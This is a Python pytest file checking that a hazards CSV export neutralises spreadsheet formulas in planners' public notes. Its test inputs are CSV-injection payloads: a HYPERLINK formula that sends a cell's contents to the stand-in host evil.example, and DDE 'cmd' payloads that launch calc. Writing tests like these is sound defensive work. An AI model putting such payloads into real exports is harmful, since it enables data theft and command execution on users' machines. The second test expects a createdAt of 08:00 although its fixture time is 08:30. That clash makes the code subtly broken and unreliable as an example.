"""The open-data hazards.csv writes a planner's public note as text, never as a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime

import pytest

from domain.opendata.rules import PublicHazard
from domain.opendata.service import hazards_csv

WHEN = datetime(2026, 6, 1, 8, 30, tzinfo=UTC)


def _hazard(note: str | None, lon: float = 4.4776) -> PublicHazard:
    return PublicHazard(
        id=uuid.UUID(int=1),
        category="road_surface",
        lat=51.0259,
        lon=lon,
        status="acknowledged",
        severity=2,
        report_count=3,
        confirmation_count=1,
        dispute_count=0,
        public_note=note,
        created_at=WHEN,
        updated_at=WHEN,
    )


@pytest.mark.parametrize(
    "note",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_in_a_public_note_is_written_as_text(note: str) -> None:
    [row] = csv.DictReader(io.StringIO(b"".join(hazards_csv([_hazard(note)])).decode()))
    assert row["publicNote"] == "'" + note


def test_numbers_stay_numbers_and_plain_notes_stay_as_typed() -> None:
    [row] = csv.DictReader(
        io.StringIO(b"".join(hazards_csv([_hazard("Fixed in May", lon=-0.1275)])).decode())
    )
    assert (row["publicNote"], row["lon"], row["severity"]) == ("Fixed in May", "-0.1275", "2")
    assert row["createdAt"] == "2026-06-01T08:00:00Z"
